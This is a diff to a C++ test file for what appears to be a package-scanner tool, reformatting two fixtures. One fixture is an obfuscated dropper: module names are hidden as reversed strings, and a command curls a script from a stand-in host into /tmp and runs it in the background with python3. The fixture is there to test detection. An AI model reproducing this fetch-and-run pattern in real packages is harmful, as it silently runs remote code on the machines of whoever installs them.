@@ -19,7 +19,8 @@ Tier judged(const Package& package, std::string_view rule, const ReleaseContext&
 // What a command fetches and runs, with every name hidden: the second package of the axios incident, without its
 // server.
 const char* const kDropper = R"(
-const table = ['ssecorp_dlihc', 'sf', 'htap', 'cnySknilnu', 'cnySemaner', 'nwaps'].map((w) => w.split('').reverse().join(''));
+const table = ['ssecorp_dlihc', 'sf', 'htap', 'cnySknilnu', 'cnySemaner', 'nwaps']
+  .map((w) => w.split('').reverse().join(''));
 const processes = require(table[0]), files = require(table[1]), paths = require(table[2]);
 const place = paths.join('/tmp', 'ld.py');
 const line = 'curl -s -o ' + place + ' http://c.example.test:8000/1 && nohup python3 ' + place + ' > /dev/null 2>&1 &';
@@ -78,9 +79,9 @@ TEST(Conjunctions, AWormPublishesRewritesAndReadsAToken) {
 TEST(Conjunctions, GypThatLooksBeforeItBuildsIsOrdinary) {
   Package package(R"({"name": "p", "version": "1.0.0"})");
   package
-      .add(
-          "binding.gyp",
-          R"gyp({"targets": [{"target_name": "p", "sources": ["a.cc"], "variables": {"a": "<!(node util/has_lib.js jpeg)"}}]})gyp")
+      .add("binding.gyp",
+           R"gyp({"targets": [{"target_name": "p", "sources": ["a.cc"],
+              "variables": {"a": "<!(node util/has_lib.js jpeg)"}}]})gyp")
       .add("util/has_lib.js",
            "const { execSync } = require('child_process'); console.log(execSync('ldconfig "
            "-p').includes(process.argv[2]));")
